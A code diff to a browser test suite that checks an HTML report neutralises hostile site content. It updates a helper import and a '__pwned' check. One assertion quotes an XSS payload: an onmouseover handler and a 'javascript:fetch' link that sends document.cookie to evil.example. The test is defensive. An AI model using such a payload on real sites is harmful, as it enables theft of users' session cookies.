@@ -8,7 +8,7 @@ import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { REPORT_CSP } from '../../../src/domain/reports/html-report.js'
 import { harness, KEY, type Harness } from '../../fixtures/analyze.js'
-import { browserRuns as runs, CHROMIUM, launchBrowser, openHtml, SKIP_REASON } from '../../fixtures/browser.js'
+import { browserRuns as runs, CHROMIUM, launchBrowser, openHtml, pwned, SKIP_REASON } from '../../../../../packages/renderer/test/helpers/html-page.js'
 import { CDN, crawlerSites } from '../../fixtures/sites/crawlers.js'
 import { HOSTILE, HOSTILE_TITLE, hostileSite } from '../../fixtures/sites/hostile.js'
 import { WEAK, WEAK_HOSTS, weakSite } from '../../fixtures/sites/weak.js'
@@ -93,7 +93,7 @@ suite(runs ? 'the HTML report in chromium' : `the HTML report in chromium (${SKI
     const text = await page.innerText('body')
     expect(text).toContain(HOSTILE_TITLE)
     expect(text).toContain('"<b onmouseover=alert(1)>click here</b>" (javascript:fetch(\'https://evil.example/\'+document.cookie))')
-    expect(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned)).toBeUndefined()
+    expect(await pwned(page)).toBeUndefined()
     expect(await page.locator('script, iframe, img, a, object, embed, form').count()).toBe(0)
     await page.locator('td, p, h1, h3').first().hover()
     expect([requests, dialogs]).toEqual([[], []])
